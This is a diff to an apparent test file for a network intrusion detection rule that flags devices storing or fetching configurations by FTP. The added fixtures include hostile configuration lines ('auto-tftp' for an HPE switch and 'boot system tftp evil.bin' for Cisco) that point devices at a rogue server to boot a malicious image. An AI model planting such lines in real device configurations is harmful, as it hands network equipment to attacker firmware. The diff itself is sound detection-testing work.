@@ -163,15 +163,28 @@ def bw08_prose_about_it(wire: Wire) -> None:
     tftp.read(wire, "10.20.1.40", SERVER, "manual.txt", manual)
 
 
+HPE_TEXT = f"""\
+; J9019A Configuration Editor; Created on release #Q.11.78
+
+hostname "sw43"
+auto-tftp {ROGUE} "Q_evil.swi"
+""".encode()
+
+
 @scenario(
     "BW08",
     "malicious",
-    raises=[("BW08", 1542007797, DEVICE, "10.20.0.9"), ("BW08", 1542007798, "10.0.1.2", "10.20.0.9")],
+    raises=[
+        ("BW08", 1542007797, DEVICE, "10.20.0.9"),
+        ("BW08", 1542007798, "10.0.1.2", "10.20.0.9"),
+        ("BW08", 1542007801, "10.0.1.3", "10.20.0.9"),
+        ("BW08", 1542007802, "10.0.1.4", "10.20.0.9"),
+    ],
     site=HQ,
     with_site=Expect(
         tuple(
             notice
-            for number, device in enumerate((DEVICE, "10.0.1.2"), 1)
+            for number, device in enumerate((DEVICE, "10.0.1.2", "10.0.1.3", "10.0.1.4"), 1)
             for notice in (
                 Notice("Config_Exfiltration", device, "10.20.0.9", f"edge{number}.cfg"),
                 served(f"edge{number}.cfg", device=device),
@@ -180,26 +193,39 @@ def bw08_prose_about_it(wire: Wire) -> None:
     ),
 )
 def bw08_stored_by_ftp(wire: Wire) -> None:
-    """Two devices store configurations with a rogue boot line by FTP, passive and active."""
+    """Devices store configurations with a rogue boot line by FTP, passive and active, of Cisco's and of HPE's."""
     text = config("edge1", (f"boot system tftp evil.bin {ROGUE}",))
     ftp.store(wire, DEVICE, "10.20.0.9", "edge1.cfg", text)
     ftp.store(wire, "10.0.1.2", "10.20.0.9", "edge2.cfg", text, active=True)
+    ftp.store(wire, "10.0.1.3", "10.20.0.9", "edge3.cfg", HPE_TEXT)
+    ftp.store(wire, "10.0.1.4", "10.20.0.9", "edge4.cfg", HPE_TEXT, active=True)
 
 
 @scenario(
     "BW08",
     "malicious",
-    raises=[("BW08", 1542007796, "10.20.0.9", DEVICE)],
-    raises_with_site=[("BW08", 1542007796, "10.20.0.9", DEVICE), ("BW10", 23, "10.20.0.9", DEVICE)],
+    raises=[("BW08", 1542007796, "10.20.0.9", DEVICE), ("BW08", 1542007800, "10.20.0.9", "10.0.1.2")],
+    raises_with_site=[
+        *(("BW08", sid, "10.20.0.9", device) for sid, device in ((1542007796, DEVICE), (1542007800, "10.0.1.2"))),
+        *(("BW10", 23, "10.20.0.9", device) for device in (DEVICE, "10.0.1.2")),
+    ],
     site=HQ,
     with_site=Expect(
-        (Notice("Unauthorized_Boot_Server", DEVICE, "10.20.0.9", "edge1.cfg"), served("edge1.cfg")),
+        tuple(
+            notice
+            for number, device in enumerate((DEVICE, "10.0.1.2"), 1)
+            for notice in (
+                Notice("Unauthorized_Boot_Server", device, "10.20.0.9", f"edge{number}.cfg"),
+                served(f"edge{number}.cfg", device=device),
+            )
+        ),
     ),
 )
 def bw08_fetched_by_active_ftp(wire: Wire) -> None:
-    """A device fetches a configuration with a rogue boot line by FTP in active mode."""
+    """A router and an HPE switch fetch a configuration with a rogue boot line by FTP in active mode."""
     text = config("edge1", (f"boot system tftp evil.bin {ROGUE}",))
     ftp.retrieve(wire, DEVICE, "10.20.0.9", "edge1.cfg", text, active=True)
+    ftp.retrieve(wire, "10.0.1.2", "10.20.0.9", "edge2.cfg", HPE_TEXT, active=True)
 
 
 @scenario("BW08", "benign")
